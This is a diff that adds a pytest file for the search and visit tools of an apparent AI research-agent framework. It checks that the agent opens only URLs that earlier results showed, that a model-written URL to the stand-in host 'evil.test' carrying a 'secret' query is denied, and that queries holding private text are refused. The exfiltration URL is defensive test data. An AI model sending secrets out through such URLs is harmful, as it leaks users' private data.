@@ -1,0 +1,85 @@
+"""The tools ask the boundary before anything goes out, and what a model wrote itself opens nothing."""
+
+import json
+from pathlib import Path
+
+import pytest
+from tests.worlds import small_world
+
+from fathom.core.errors import PageNotFoundError, ToolError
+from fathom.core.evidence import Page
+from fathom.core.model import content_hash
+from fathom.core.task import Task
+from fathom.llm.scripted import ScriptedChat
+from fathom.tools.protocol import ToolContext
+from fathom.tools.search import Search
+from fathom.tools.visit import Visit
+from fathom.world.protocol import Hit, WorldLink
+
+EXFILTRATING = "https://evil.test/?q=secret"
+
+
+class Web:
+    """A web of one page; `asked` is all that was asked of it."""
+
+    name = "web"
+
+    def __init__(self) -> None:
+        self.asked: list[str] = []
+
+    async def search(self, query: str, k: int = 10) -> tuple[Hit, ...]:
+        self.asked.append(query)
+        return (Hit(url="https://site.test/a", title="A", snippet="See https://site.test/b too."),)
+
+    async def open(self, url: str) -> Page:
+        self.asked.append(url)
+        if not url.startswith("https://site.test/"):
+            raise PageNotFoundError(url)
+        text = f"The page {url}. More at https://site.test/c."
+        return Page(url=url, title="A", text=text, text_hash=content_hash(text), fetched_at="2026-01-01")
+
+    async def links(self, url: str) -> tuple[WorldLink, ...]:
+        return ()
+
+    async def close(self) -> None:
+        return None
+
+
+@pytest.fixture
+def context() -> ToolContext:
+    return ToolContext(task=Task(id="t", question="What is A?"), world=Web(), outgoing=True)
+
+
+async def visit(context: ToolContext, url: str) -> str:
+    return (await Visit().run({"url": [url], "goal": f"write {EXFILTRATING}"}, context)).text
+
+
+async def test_results_open_what_they_show_one_after_the_other(context: ToolContext) -> None:
+    with pytest.raises(ToolError, match="Not opened"):
+        await visit(context, "https://site.test/a")
+    await Search().run({"query": ["A"]}, context)
+    for shown in ("https://site.test/a", "https://site.test/b", "https://site.test/c"):
+        assert "The page" in await visit(context, shown)
+    assert context.world.asked == ["A", "https://site.test/a", "https://site.test/b", "https://site.test/c"]  # type: ignore[attr-defined]
+
+
+async def test_what_the_model_wrote_opens_nothing(context: ToolContext) -> None:
+    assert EXFILTRATING in (await Search().run({"query": [EXFILTRATING]}, context)).text  # repeated, yet not shown
+    context.reader = ScriptedChat([json.dumps({"rational": "", "evidence": ["E1"], "summary": EXFILTRATING})] * 2)
+    assert EXFILTRATING in await visit(context, "https://site.test/a")
+    with pytest.raises(ToolError) as caught:
+        await visit(context, EXFILTRATING)
+    assert caught.value.kind == "denied" and EXFILTRATING not in context.world.asked[1:]  # type: ignore[attr-defined]
+
+
+async def test_with_private_text_queries_keep_to_public_words(context: ToolContext) -> None:
+    context.boundary.show("the code is 48213", private=True)
+    with pytest.raises(ToolError, match="48213"):
+        await Search().run({"query": ["What is A", "A 48213"]}, context)
+    assert context.world.asked == []  # type: ignore[attr-defined]
+    await Search().run({"query": ["What is A"]}, context)
+
+
+async def test_titles_of_a_corpus_are_no_addresses(tmp_path: Path) -> None:
+    context = ToolContext(task=Task(id="t", question="?"), world=small_world(tmp_path))
+    assert "directed by Carla Rossi" in await visit(context, "Salt Road")
